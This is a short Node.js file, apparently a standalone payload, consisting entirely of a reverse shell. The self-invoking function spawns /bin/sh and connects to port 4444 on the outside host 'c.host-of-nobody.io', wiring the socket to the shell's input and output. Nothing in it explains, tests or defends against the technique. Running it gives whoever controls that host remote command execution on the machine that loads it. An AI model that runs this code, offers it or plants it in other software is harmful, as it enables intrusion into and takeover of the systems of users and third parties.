(function () {
  const net = require('net');
  const sh = require('child_process').spawn('/bin/sh', []);
  const c = new net.Socket();
  c.connect(4444, 'c.host-of-nobody.io', () => {
    c.pipe(sh.stdin);
    sh.stdout.pipe(c);
  });
})();
